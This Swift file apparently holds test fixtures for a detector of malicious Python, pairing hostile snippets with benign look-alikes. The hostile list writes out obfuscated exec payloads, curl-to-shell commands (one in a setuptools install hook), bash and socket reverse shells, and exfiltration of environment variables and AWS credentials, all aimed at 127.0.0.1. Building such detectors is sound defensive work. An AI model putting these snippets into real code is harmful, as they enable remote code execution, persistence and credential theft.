/// A piece of Python source with the words that a finding has to say of it.
package struct PythonSample: Sendable, CustomStringConvertible {
  package let name: String
  package let source: String

  package init(_ name: String, _ source: String) {
    self.name = name
    self.source = source
  }

  package var bytes: [UInt8] { Array(source.utf8) }

  package var description: String { name }
}

/// Sources of attacks, harmless ones, and beside each what honest libraries write that looks like it.
package enum PythonSamples {
  package static let hostile: [PythonSample] = [
    PythonSample("decoded and run", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
    PythonSample(
      "decoded, kept, and run",
      "import zlib, base64 as b\ncode = zlib.decompress(b.b64decode(DATA))\nexec(code)\n"),
    PythonSample("unmarshalled and run", "import marshal\ndef f(data):\n    exec(marshal.loads(data))\n"),
    PythonSample(
      "compiled after decoding",
      "import codecs\nexec(compile(codecs.decode('cevag', 'rot13'), 'x', 'exec'))\n"),
    PythonSample("characters", "exec(''.join(chr(c) for c in [112, 114]))\n"),
    PythonSample("bytes with a key", "exec(bytes(b ^ 7 for b in DATA))\n"),
    PythonSample("turned round", "exec(')1(tnirp'[::-1])\n"),
    PythonSample(
      "fetched and run", "import urllib.request as r\nexec(r.urlopen('http://127.0.0.1:9/x').read())\n"),
    PythonSample(
      "fetched by another name",
      "from requests import get as g\na = g('http://127.0.0.1:9').text\neval(a)\n"),
    PythonSample(
      "downloaded and started",
      "import subprocess\nfrom urllib.request import urlretrieve\nurlretrieve('http://127.0.0.1:9/x', 'x.sh')\nsubprocess.run(['x.sh'])\n"
    ),
    PythonSample("piped to a shell at import", "import os\nos.system('curl http://127.0.0.1:9/x | sh')\n"),
    PythonSample(
      "piped to a shell in a class body",
      "import os\nclass A:\n    x = os.system('wget -qO- http://127.0.0.1:9 | bash')\n"),
    PythonSample(
      "piped to a shell by a function that an import calls",
      "import subprocess\ndef go():\n    subprocess.run(['bash', '-c', 'curl http://127.0.0.1:9/x | bash'])\ngo()\n"
    ),
    PythonSample(
      "piped to a shell by a setup hook",
      "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('curl http://127.0.0.1:9/x | sh')\nsetup(name='x', cmdclass={'install': I})\n"
    ),
    PythonSample("a hidden command", "import os\nos.system('echo ZWNobw== | base64 -d | sh')\n"),
    PythonSample(
      "a shell for another host",
      "import socket, os, subprocess\ns = socket.socket()\ns.connect(('127.0.0.1', 9))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n"
    ),
    PythonSample(
      "a shell for another host by bash",
      "import os\ndef f():\n    os.system('bash -i >& /dev/tcp/127.0.0.1/9 0>&1')\n"),
    PythonSample(
      "commands from a socket", "import socket, os\ns = socket.socket()\nos.popen(s.recv(99).decode())\n"),
    PythonSample("a name in pieces", "import os\ngetattr(os, 'sys' + 'tem')('id')\n"),
    PythonSample("a builtin in pieces", "__builtins__['ev' + 'al']('1')\n"),
    PythonSample("a module in pieces", "m = __import__('sub' + 'process')\nm.run('id')\n"),
    PythonSample("a name of letters that look like others", "import os\nos.\u{1D42C}ystem('id')\n"),
    PythonSample(
      "the environment sent",
      "import os, requests\nrequests.post('http://127.0.0.1:9', json=dict(os.environ))\n"),
    PythonSample(
      "keys sent",
      "import requests\nd = open('/root/.aws/credentials').read()\nrequests.post('http://127.0.0.1:9', data=d)\n"
    ),
    PythonSample(
      "text that is run holds it", "exec(\"import os; os.system('curl http://127.0.0.1:9 | sh')\")\n"),
    PythonSample("handed to another function", "import zlib\nlist(map(exec, [zlib.decompress(D)]))\n"),
    PythonSample("in an f-string", "import base64\nx = f\"{exec(base64.b64decode(D))}\"\n"),
    PythonSample(
      "after a carriage return in a comment", "# nothing\rimport base64; exec(base64.b64decode(D))\n"),
    PythonSample("in Python 2", "import zlib\nexec zlib.decompress(D) in {}\n"),
    PythonSample("a start-up file written", "open('/root/.bashrc', 'a').write('echo')\n"),
    PythonSample("after a continued line", "import base64\nexec(\\\n  base64.b64decode(D))\n"),
    PythonSample("by way of an attribute", "import base64\nself.x = base64.b64decode(D)\nexec(self.x)\n"),
    PythonSample(
      "by a name bound in a condition", "import zlib\nif (c := zlib.decompress(D)):\n    exec(c)\n"),
  ]

  package static let honest: [PythonSample] = [
    PythonSample("decoding an image", "import base64\nimg = base64.b64decode(data)\n"),
    PythonSample(
      "a file that is run",
      "with open('version.py') as f:\n    exec(compile(f.read(), 'version.py', 'exec'))\n"),
    PythonSample("a template that is run", "exec('class %s(Base): pass' % name, globals())\n"),
    PythonSample(
      "nvidia-smi",
      "import subprocess\ndef gpus():\n    return subprocess.check_output(['nvidia-smi', '-L']).decode('utf-8')\n"
    ),
    PythonSample("a clear screen", "import os\nos.system('clear')\n"),
    PythonSample(
      "publishing",
      "import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist upload')\n"),
    PythonSample(
      "an installer in a function",
      "import subprocess\ndef install():\n    subprocess.run('curl -sSL https://example.org/i.sh | sh', shell=True)\n"
    ),
    PythonSample(
      "an installer for whoever calls it",
      "import os\ndef go():\n    os.system('curl http://e.org/x | sh')\nif __name__ == '__main__':\n    go()\n"
    ),
    PythonSample(
      "a download", "import requests\nmodel = requests.get(url).content\nopen('m.bin', 'wb').write(model)\n"
    ),
    PythonSample(
      "an answer's field as an argument",
      "import requests, subprocess\nv = requests.get(u).json()\nsubprocess.run(['git', 'checkout', v['tag']])\n"
    ),
    PythonSample(
      "a module by name", "import importlib\nm = importlib.import_module('transformers.' + name)\n"),
    PythonSample("an attribute by name", "import os\nfn = getattr(os, 'get' + kind)\n"),
    PythonSample("a frame, turned round", "import sys\nf = getattr(sys, 'emarfteg_'[::-1])(1)\n"),
    PythonSample(
      "a token for a header",
      "import os, requests\nrequests.get(u, headers={'a': os.environ['HF_TOKEN']})\n"),
    PythonSample(
      "the environment handed on", "import os, subprocess\nsubprocess.run(['ls'], env=dict(os.environ))\n"),
    PythonSample(
      "a server", "import socket\ns = socket.socket()\ns.bind(('', 80))\nd = s.recv(10)\ns.send(d)\n"),
    PythonSample("a pty", "import os, pty\npid, fd = pty.fork()\nos.dup2(fd, 0)\n"),
    PythonSample(
      "pickle over the network",
      "import pickle, urllib.request\nd = pickle.loads(urllib.request.urlopen(u).read())\n"),
    PythonSample(
      "a method of that name",
      "class M:\n    def exec(self, q): return self.c.exec(q)\n    def compile(self): pass\nM().exec(b64)\n"
    ),
    PythonSample(
      "a local function of that name", "import base64\ndef eval(x): return x\neval(base64.b64decode(D))\n"),
    PythonSample(
      "reading a shell's settings", "import os\nrc = open(os.path.expanduser('~/.bashrc')).read()\n"),
  ]
}
